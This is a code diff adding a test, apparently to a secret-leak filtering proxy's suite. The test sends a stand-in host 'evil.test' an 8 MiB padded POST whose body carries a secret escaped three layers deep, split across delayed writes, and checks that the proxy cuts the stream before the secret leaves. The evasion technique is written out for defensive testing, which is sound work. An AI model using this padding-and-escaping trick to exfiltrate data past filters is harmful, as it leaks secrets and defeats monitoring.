@@ -166,6 +166,30 @@ connect.end();
   }, 60_000);
 });
 
+describe("a body over 8 MiB with the value escaped three rounds deep (found by red-teaming)", () => {
+  test("is cut before any of the spelling's value leaves, however the writes fall", async () => {
+    // Every character escaped, and every character of that escaped again, three times: 216
+    // characters a byte, far more than one round's hold-back.
+    const once = (t: string) => [...t].map((ch) => `\\u${ch.charCodeAt(0).toString(16).padStart(4, "0")}`).join("");
+    const spelled = once(once(once(B.secret)));
+    const head = `POST /big3 HTTP/1.1\r\nHost: evil.test\r\nContent-Type: text/plain\r\nContent-Length: ${9 * 1024 * 1024 + spelled.length}\r\n\r\n`;
+    const conn = await B.tunnel("evil.test");
+    const mark = B.upstream.wire.length;
+    const cut = Math.floor(spelled.length * 0.75);
+    conn.socket.write(Buffer.concat([Buffer.from(head), Buffer.alloc(9 * 1024 * 1024, "a"), Buffer.from(spelled.slice(0, cut))]));
+    await Bun.sleep(1500);
+    conn.socket.write(spelled.slice(cut));
+    await Bun.sleep(1000);
+    conn.close();
+    const wire = B.wireFor("evil.test", mark).toString("latin1");
+    // What arrived, decoded three rounds, holds no part of the value worth having.
+    let decoded = wire;
+    for (let i = 0; i < 3; i++) decoded = decoded.replace(/\\u([0-9a-f]{4})/g, (_m, h: string) => String.fromCharCode(Number.parseInt(h, 16)));
+    expect(decoded).not.toContain(B.secret.slice(0, 8));
+    expect(wire.length).toBeLessThan(9 * 1024 * 1024 + spelled.length);
+  }, 60_000);
+});
+
 describe("fuzzed spellings and splits through the binary", () => {
   const seed = Number(process.env.FUZZ_SEED ?? Date.now() % 1_000_000);
   test(`60 random spellings are refused with nothing sent (FUZZ_SEED=${seed})`, async () => {
